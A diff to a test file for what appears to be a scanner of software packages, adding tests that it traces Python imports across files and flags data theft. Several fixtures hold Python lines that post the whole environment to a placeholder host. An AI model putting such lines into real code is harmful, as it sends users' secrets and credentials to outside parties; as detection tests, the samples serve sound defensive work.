@@ -54,10 +54,26 @@ it('follows scripts whose first line names Python, whatever they are called', as
   expect(await rulesIn({ 'bin/tool': `#!/bin/sh\n${code}` })).not.toContain(SENT);
 });
 
+it('follows scripts of a large package together that imports join', async () => {
+  const files = {
+    'pkg/a.py': 'import os\nfrom .b import send\ndef go(): send(dict(os.environ))\n',
+    'pkg/b.py': "import requests\ndef send(data): requests.post('https://c.example.invalid', json=data)\n",
+    'pkg/c.py': `x = '${'x'.repeat(200)}'\n`,
+  };
+  await withLimit('behaviour-python-together', 200, async () => {
+    expect(await rulesIn(files)).toContain(SENT);
+    const apart = {
+      ...files,
+      'pkg/a.py': 'import os\nfrom d import send\ndef go(): send(dict(os.environ))\n',
+    };
+    expect(await rulesIn(apart)).not.toContain(SENT);
+  });
+});
+
 it('tells what it did not follow to the end, of packages that few know as incomplete', async () => {
   const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
-  const tree = memoryTree({ 'a/__init__.py': code });
-  const problemsOf = async (name: string) => {
+  const problemsOf = async (name: string, text = code) => {
+    const tree = memoryTree({ 'a/__init__.py': text });
     const packages = [packageOf(name, '1', { ecosystem: 'PyPI', locations: [{ path: 'a' }] })];
     return (await scanSignatures({ tree, packages, signatures })).problems;
   };
@@ -65,9 +81,7 @@ it('tells what it did not follow to the end, of packages that few know as incomp
     expect(await problemsOf('nobody-knows-it')).toMatchObject([
       { path: 'a/__init__.py', affectsCompleteness: true },
     ]);
-    expect(await problemsOf('requests')).toMatchObject([
-      { path: 'a/__init__.py', affectsCompleteness: false },
-    ]);
+    expect(await problemsOf('requests')).toMatchObject([{ affectsCompleteness: false }]);
   });
   await withLimit('python-depth', 2, async () => {
     expect(await problemsOf('requests')).toMatchObject([{ code: 'too-large', affectsCompleteness: true }]);
